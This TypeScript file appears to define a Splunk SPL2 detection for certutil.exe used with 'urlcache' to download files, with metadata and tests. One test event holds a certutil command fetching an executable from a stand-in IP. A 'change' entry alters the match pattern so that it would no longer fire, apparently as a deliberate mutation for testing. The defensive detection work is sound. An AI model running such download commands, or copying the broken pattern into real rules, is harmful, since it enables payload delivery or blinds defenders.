import { ABOUT, type DetectionTemplate } from "./template.ts";

export const spl2: DetectionTemplate = {
  summary: "SPL2 as Splunk's pipelines of today are written",
  spl: `// Where events come from.
$pipeline = from $source
// What makes one a finding.
| where lower(process_name) = "certutil.exe" AND lower(process) LIKE "%urlcache%"
// What the finding says.
| eval message = "Certutil loaded a file on \${dest} for \${user}."
| fields _time, dest, user, process, message
| into $destination;
`,
  metadata: `${ABOUT}tags:
  confidence: 80
  impact: 70
  risk_score: 56
  risk_severity: medium
  kill_chain_phases:
    - Command and Control
  message: $user$ loaded a file with certutil on $dest$.
  mitre_attack_id:
    - T1105
  required_fields:
    - _time
    - dest
    - user
    - process_name
    - process
`,
  tests: `tests:
  - name: fires when certutil loads a file
    events:
      - { _time: 1767225600, process_name: certutil.exe, process: certutil -urlcache -f http://192.0.2.1/tool.exe tool.exe, dest: ws-01, user: kim }
    expect: fires
  - name: stays silent when certutil shows a certificate
    events:
      - { _time: 1767225600, process_name: certutil.exe, process: certutil -dump server.cer, dest: ws-01, user: kim }
    expect: silent
`,
  change: { from: "%urlcache%", to: "%urlcached%" },
};
